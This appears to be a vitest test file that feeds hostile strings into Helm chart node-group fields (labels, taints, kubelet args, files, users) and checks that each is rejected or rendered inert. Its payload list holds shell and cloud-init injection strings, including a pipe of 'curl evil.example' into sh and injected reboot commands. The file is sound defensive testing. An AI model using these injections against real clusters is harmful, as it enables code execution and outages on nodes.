// Hostile strings in every node-group field that reaches cloud-init or the kubelet's command
// line: each is either rejected with a message naming the field, or rendered as inert data —
// the rendered objects keep exactly the shape of a benign render (no injected keys, list
// entries or lines) and the payload never lands in a command or a kubelet argument.
import { describe, expect, it } from 'vitest';
import type { K8sObject } from '../../generator/src/manifest/parse.ts';
import type { NodeGroup } from '../../generator/src/types/kubernetes-values.ts';
import { HelmError, renderChart } from '../support/render.ts';

const PAYLOADS = ['x"; touch /tmp/pwned; echo "', '$(reboot)', '`id`', "x' && curl evil.example | sh #", 'a\nruncmd: [reboot]', 'a,b=c:NoSchedule --pod-manifest-path=/tmp'];

/** Node-group fields that reach cloud-init / kubelet, as functions of one string (benign: "benign" unless BENIGN says). */
const FIELDS: Record<string, (s: string) => NodeGroup> = {
  'labels (key)': (s) => ({ labels: { [`example.com/${s}`]: 'v' } }),
  'labels (value)': (s) => ({ labels: { 'example.com/x': s } }),
  'taints[].key': (s) => ({ taints: [{ key: s, value: 'v', effect: 'NoSchedule' }] }),
  'taints[].value': (s) => ({ taints: [{ key: 'example.com/t', value: s, effect: 'NoSchedule' }] }),
  'kubeletExtraArgs (value)': (s) => ({ kubeletExtraArgs: { 'v': s } }),
  'kubeletExtraArgs (key)': (s) => ({ kubeletExtraArgs: { [s]: '2' } }),
  'kubeReserved (value)': (s) => ({ kubeReserved: { cpu: s } }),
  'registryMirrors (host)': (s) => ({ registryMirrors: { [s]: { endpoints: ['https://mirror.example.com'] } } }),
  'registryMirrors[].endpoints': (s) => ({ registryMirrors: { 'docker.io': { endpoints: [`https://mirror.example.com/${s}`] } } }),
  'files[].path': (s) => ({ files: [{ path: `/etc/${s}`, content: 'c' }] }),
  'files[].owner': (s) => ({ files: [{ path: '/etc/x', content: 'c', owner: s }] }),
  'files[].permissions': (s) => ({ files: [{ path: '/etc/x', content: 'c', permissions: s }] }),
  'users[].name': (s) => ({ users: [{ name: s }] }),
  'users[].sshAuthorizedKeys': (s) => ({ users: [{ name: 'ops', sshAuthorizedKeys: [`ssh-ed25519 AAAAC3Nza ${s}`] }] }),
  'rootDisk.image': (s) => ({ rootDisk: { image: `quay.io/x/y:${s}` } }),
  'dataDisks[].name': (s) => ({ dataDisks: [{ name: s, size: '10Gi' }] }),
};

const BENIGN: Record<string, string> = { 'kubeReserved (value)': '100m', 'files[].permissions': '0644' };

/** The JSON paths of an object, with array positions, ignoring values: a render's shape. */
function shape(v: unknown, prefix = ''): string[] {
  if (Array.isArray(v)) return [`${prefix}[${v.length}]`, ...v.flatMap((x, i) => shape(x, `${prefix}[${i}]`))];
  if (v && typeof v === 'object') return Object.entries(v).flatMap(([k, x]) => [`${prefix}.${k.replace(/[^a-z]/gi, '')}`, ...shape(x, `${prefix}.${k.replace(/[^a-z]/gi, '')}`)]);
  return typeof v === 'string' ? [`${prefix}:lines=${v.split('\n').length}`] : [];
}

const bootstrap = (objects: K8sObject[]) => objects.find((o) => o.kind === 'KubeadmConfigTemplate');
const withoutNames = (objects: K8sObject[]) => objects.map((o) => ({ kind: o.kind, spec: o.spec }));

async function attempt(group: NodeGroup): Promise<{ objects?: K8sObject[]; error?: string }> {
  try {
    const docs = await renderChart('kubernetes', { values: { nodeGroups: { workers: group } } });
    return { objects: docs.map((d) => d.object) };
  } catch (err) {
    if (err instanceof HelmError) return { error: err.message };
    throw err;
  }
}

describe('hostile input in node-group fields is rejected or inert', () => {
  for (const [field, make] of Object.entries(FIELDS)) {
    it(field, async () => {
      const benign = await attempt(make(BENIGN[field] ?? 'benign'));
      expect(benign.error, `a benign ${field} must render`).toBeUndefined();
      const fieldWord = field.split(/[ .[]/)[0]!;
      for (const payload of PAYLOADS) {
        const r = await attempt(make(payload));
        if (r.error) {
          // Helm 3 names the field's path; Helm 4 reports a bad map key by quoting the key itself
          const namesIt = r.error.includes(fieldWord) || r.error.replace(/\\/g, '').includes(payload.split('\n')[0]!);
          expect(namesIt, `rejection of ${JSON.stringify(payload)} names the field or the key: ${r.error}`).toBe(true);
          expect(r.error).not.toMatch(/nil pointer|<nil>|runtime error/);
          continue;
        }
        expect(shape(withoutNames(r.objects!)), `${JSON.stringify(payload)} in ${field} changed the rendered structure`).toEqual(shape(withoutNames(benign.objects!)));
        const spec = (bootstrap(r.objects!)?.spec ?? {}) as { template?: { spec?: Record<string, unknown> } };
        const commands = JSON.stringify([spec.template?.spec?.preKubeadmCommands ?? [], spec.template?.spec?.postKubeadmCommands ?? []]);
        expect(commands).not.toContain(payload.slice(0, 6));
        const kubeletArgs = JSON.stringify((spec.template?.spec?.joinConfiguration as { nodeRegistration?: { kubeletExtraArgs?: unknown } } | undefined)?.nodeRegistration?.kubeletExtraArgs ?? []);
        expect(kubeletArgs, `${JSON.stringify(payload)} reached a kubelet argument`).not.toContain(payload);
      }
    });
  }
});
